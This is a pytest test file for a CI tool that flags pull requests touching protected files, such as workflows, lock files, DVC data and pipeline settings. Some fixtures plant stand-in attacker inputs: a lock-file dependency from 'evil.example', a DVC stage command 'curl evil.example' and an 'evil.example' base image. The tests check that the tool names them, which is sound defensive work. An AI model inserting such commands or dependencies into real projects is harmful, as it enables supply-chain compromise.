"""The comment starts with what a pull request touches of what is protected, by GitHub's account."""

from __future__ import annotations

import json

import pytest
import yaml
from tests.comparison.cases import BETTER, judged
from tests.services.projects import ROOT
from tests.workflows.conftest import NUMBER, RUN

from slipway.github.comment import render
from slipway.github.find_pull_request import Run
from slipway.github.protected_changes import SHOWN, warning_of
from slipway.untrusted import as_text

SHA = "a" * 40

LOCK = "foo==1.2 \\\n    --hash=sha256:11\nbar==2.0 \\\n    --hash=sha256:22\n"


@pytest.fixture
def pull(github):
    github.open_pull(NUMBER, SHA)
    return lambda path, status="modified", **options: github.change(NUMBER, path, status, **options)


@pytest.fixture
def warning(api):
    return lambda: as_text("\n".join(warning_of(api, NUMBER, SHA)))


def test_a_pull_request_that_touches_nothing_protected_has_no_warning(pull, warning):
    pull("src/model/features.py")
    pull("docs/verdicts.md")

    assert warning() == ""


@pytest.mark.parametrize(
    "path",
    [
        ".github/workflows/pull-request.yml",
        "packages/slipway/src/slipway/comparison/verdict.py",
        "packages/slipway/src/slipway/comparison.py",
        "requirements.lock",
        ".dvc/config",
        ".gitattributes",
        "docs/.gitattributes",
        "Makefile",
        "tests/conftest.py",
        "pyproject.toml",
        ".ci/run",
        "json.py",
    ],
)
def test_every_protected_file_is_named_and_the_first_line_warns(pull, warning, path):
    for number in range(500):
        pull(f"docs/{number}.md")
    pull(path)

    title, *rest = warning().splitlines()
    assert title == "This pull request changes how it is judged"
    assert path in "\n".join(rest)
    assert "docs/7.md" not in "\n".join(rest)


def test_the_comment_has_the_warning_above_the_verdict(api, github, pull, monkeypatch):
    monkeypatch.chdir(ROOT)
    pull("packages/slipway/src/slipway/comparison/verdict.py")
    github.add_report(RUN, judged(BETTER))

    text, worth = render(
        api, Run(RUN, "https://github.com/o/r/actions/runs/1", SHA, "success"), NUMBER
    )

    first, *rest = text.splitlines()
    assert first == "### ⚠️ This pull request changes how it is judged"
    assert any(line.startswith("### ✅ Better") for line in rest)
    assert worth


def test_a_protected_change_is_worth_a_comment_where_nothing_was_judged(api, pull):
    pull(".github/workflows/pull-request.yml")
    run = Run(RUN, "https://github.com/o/r/actions/runs/1", SHA, "success")

    assert render(api, run, NUMBER)[1]


def test_a_file_moved_out_of_the_protected_ones_counts_and_so_does_one_moved_in(pull, warning):
    pull(
        "docs/verdict.md",
        "renamed",
        previous_filename="packages/slipway/src/slipway/comparison/verdict.py",
    )
    pull("tests/conftest.py", "renamed", previous_filename="docs/old.py")

    assert "packages/slipway/src/slipway/comparison/verdict.py" in warning()
    assert "tests/conftest.py" in warning()


@pytest.mark.parametrize("old", [{}, {"previous_filename": None}, {"previous_filename": 1}])
def test_a_renamed_file_without_its_old_path_is_not_taken_for_harmless(pull, warning, old):
    pull("docs/new.md", "renamed", **old)

    assert warning().startswith("What this pull request changes could not be listed")


def test_another_hash_of_the_same_version_is_named(pull, warning):
    pull("requirements.lock", before=LOCK.encode(), after=LOCK.replace(":11", ":99").encode())

    assert "foo 1.2 → 1.2, same version, other hashes" in warning()


def test_a_symbolic_link_and_a_submodule_are_named(pull, warning):
    pull("src/model/data", "added", mode="120000")
    pull("docs/other", "added", mode="160000")
    pull("src/model/plain.py", "added", mode="100644")

    assert "src/model/data" in warning()
    assert "docs/other" in warning()
    assert "plain.py" not in warning()


def test_more_files_than_github_lists_count_as_protected(pull, warning):
    for number in range(3_001):
        pull(f"docs/{number}.md")

    assert warning().startswith("This pull request changes how it is judged")
    assert "3,000 of 3,001 changed files" in warning()


def test_of_a_flood_of_protected_files_no_group_is_pushed_out(pull, warning):
    for number in range(2_000):
        pull(f".github/{'x' * 200}{number}.yml")
    pull("requirements.lock", before=LOCK.encode(), after=b"evil @ https://evil.example/e.whl\n")
    pull("tests/conftest.py")

    assert f"and {2_000 - SHOWN:,} more" in warning()
    assert "https://evil.example/e.whl" in warning()
    assert "tests/conftest.py" in warning()
    assert len(warning()) < 60_000


@pytest.mark.parametrize(
    "call", ["GET pulls/7/files", "GET compare", "GET git/trees", "GET contents"]
)
def test_what_could_not_be_listed_is_reported_and_never_taken_for_nothing(
    github, pull, warning, call
):
    pull("requirements.lock", before=LOCK.encode(), after=b"")
    github.refuses = (call,)

    assert warning().startswith("What this pull request changes could not be listed")


class TestDvc:
    OBJECT, OTHER, LISTING = "1" * 32, "2" * 32, "3" * 32

    @staticmethod
    def place(md5: str, folder: str = "") -> str:
        return f"data-remote/files/md5/{md5[:2]}/{md5[2:]}{folder}"

    def data(self, **more):
        return yaml.safe_dump(
            {"outs": [{"md5": f"{self.LISTING}.dir", "path": "data", "hash": "md5", **more}]}
        ).encode()

    def add_month(self, pull):
        listed = json.dumps([{"md5": self.OBJECT, "relpath": "2013-10.parquet"}])
        pull("data.dvc", before=self.data(size=1), after=self.data(size=2))
        pull(self.place(self.LISTING, ".dir"), "added", after=listed.encode())
        pull(self.place(self.OBJECT), "added", after=b"rows")

    def test_objects_that_data_dvc_leads_to_are_explained(self, pull, warning):
        self.add_month(pull)

        assert warning() == ""

    def test_a_folder_of_very_many_files_explains_its_objects_too(self, pull, warning):
        listed = [{"md5": f"{n:032x}", "relpath": f"{n}.parquet"} for n in range(40_000)]
        pull("data.dvc", before=self.data(size=1), after=self.data(size=2))
        pull(self.place(self.LISTING, ".dir"), "added", after=json.dumps(listed).encode())
        pull(self.place(f"{39_999:032x}"), "added", after=b"rows")

        assert warning() == ""

    def test_another_object_is_named(self, pull, warning):
        self.add_month(pull)
        pull(self.place(self.OTHER), "added", after=b"more")

        assert self.place(self.OTHER) in warning()
        assert self.place(self.OBJECT) not in warning()

    @pytest.mark.parametrize("status", ["modified", "removed"])
    def test_one_that_was_there_and_is_not_the_same_any_more_is_named(self, pull, warning, status):
        self.add_month(pull)
        pull(self.place(self.OTHER), status)

        assert self.place(self.OTHER) in warning()

    def test_a_file_of_the_remote_that_is_no_object_is_named(self, pull, warning):
        pull("data-remote/readme", "added", after=b"")

        assert "data-remote/readme" in warning()

    def test_data_that_would_be_restored_somewhere_else_are_named(self, pull, warning):
        pull("data.dvc", before=self.data(), after=self.data(path="packages/slipway/src"))

        assert "data.dvc: more than its hash" in warning()

    def test_a_dependency_in_the_lock_explains_no_object(self, pull, warning):
        stage = {"cmd": "slipway train", "deps": [{"path": "data", "md5": self.OBJECT}]}
        lock = {"schema": "2.0", "stages": {"train": {"cmd": "slipway train"}}}
        more = {"schema": "2.0", "stages": {"train": stage}}
        pull("dvc.lock", before=yaml.safe_dump(lock).encode(), after=yaml.safe_dump(more).encode())
        pull(self.place(self.OBJECT), "added", after=b"rows")

        assert self.place(self.OBJECT) in warning()

    def test_a_command_that_dvc_would_run_is_named(self, pull, warning):
        stage = {"cmd": "slipway train", "deps": [{"path": "data", "md5": self.OBJECT}]}
        lock = {"schema": "2.0", "stages": {"train": stage}}
        evil = {"schema": "2.0", "stages": {"train": stage | {"cmd": "curl evil.example"}}}
        pull("dvc.lock", before=yaml.safe_dump(lock).encode(), after=yaml.safe_dump(evil).encode())

        assert "command of train: curl evil.example" in warning()

    def test_other_hashes_in_the_lock_are_what_every_model_changes(self, pull, warning):
        old = {
            "schema": "2.0",
            "stages": {"train": {"cmd": "t", "outs": [{"path": "m", "md5": "1"}]}},
        }
        new = {
            "schema": "2.0",
            "stages": {"train": {"cmd": "t", "outs": [{"path": "m", "md5": "2"}]}},
        }
        pull("dvc.lock", before=yaml.safe_dump(old).encode(), after=yaml.safe_dump(new).encode())

        assert warning() == ""

    @pytest.mark.parametrize(
        "text", [b"a: &a [*a]", b"[" * 5_000, b"x" * 500_000, b"\xff: {", b"stages: 5"]
    )
    def test_a_lock_that_cannot_be_read_is_named(self, pull, warning, text):
        pull("dvc.lock", before=b"stages: {}", after=text)

        assert "dvc.lock: cannot be read" in warning()

    def test_a_setting_of_the_judge_is_named(self, pull, warning):
        pull("params.yaml", before=b"judge: {alpha: 0.05}", after=b"judge: {alpha: 0.2}")

        assert "judge.alpha" in warning()

    @pytest.mark.parametrize(
        ("after", "named"),
        [
            ("deploy: {base_image: evil.example/python}", "deploy.base_image"),
            ("monitoring: {retrain: never}", "monitoring.retrain"),
            ("evaluate: {threshold: 0.99}", "evaluate.threshold"),
            ("a_later_section: {key: 1}", "a_later_section.key"),
        ],
    )
    def test_a_setting_that_decides_what_is_released_or_run_is_named(
        self, pull, warning, after, named
    ):
        pull("params.yaml", before=b"train: {l2: 1}", after=after.encode())

        assert named in warning()

    def test_what_a_team_tunes_is_not(self, pull, warning):
        before, after = b"train: {l2: 1}", b"train: {l2: 2}\nsearch: {candidates: [{l2: 3}]}"
        pull("params.yaml", before=before, after=after)

        assert warning() == ""

    def test_what_dvc_does_not_write_of_an_output_is_named_and_explains_no_object(
        self, pull, warning
    ):
        out = {"path": "reports/validation.json", "md5": "4" * 32}
        more = out | {"files": [{"relpath": "x", "md5": self.OBJECT}]}
        locks = [
            yaml.safe_dump({"schema": "2.0", "stages": {"train": {"cmd": "t", "outs": [each]}}})
            for each in (out, more)
        ]
        pull("dvc.lock", before=locks[0].encode(), after=locks[1].encode())
        pull(self.place(self.OBJECT), "added", after=b"rows")

        assert self.place(self.OBJECT) in warning()
        assert "reports/validation.json files" in warning()
